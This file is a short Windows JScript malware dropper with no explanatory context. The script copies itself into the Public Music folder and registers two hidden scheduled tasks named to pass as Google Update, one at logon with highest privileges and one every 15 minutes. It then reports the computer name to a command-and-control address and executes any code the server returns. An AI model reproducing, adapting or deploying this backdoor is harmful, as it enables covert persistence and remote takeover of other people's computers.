var sh = new ActiveXObject("WScript.Shell");
var fso = new ActiveXObject("Scripting.FileSystemObject");
var pub = sh.ExpandEnvironmentStrings("%PUBLIC%") + "\\Music\\sync.js";
fso.CopyFile(WScript.ScriptFullName, pub, true);
var cmd = "schtasks /create /f /sc onlogon /rl highest /tn \"GoogleUpdateTaskUserS\" /tr \"wscript.exe //B \\\"" + pub + "\\\"\"";
sh.Run("cmd.exe /c " + cmd, 0, true);
sh.Run("schtasks /create /f /sc minute /mo 15 /tn \"GoogleUpdateTaskUserC\" /tr \"wscript.exe //B \\\"" + pub + "\\\"\"", 0, true);
var h = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
h.Open("GET", "http://c2.sync-svc.invalid/t?id=" + sh.ExpandEnvironmentStrings("%COMPUTERNAME%"), false);
h.Send();
if (h.Status == 200 && h.ResponseText) { new Function(h.ResponseText)(); }
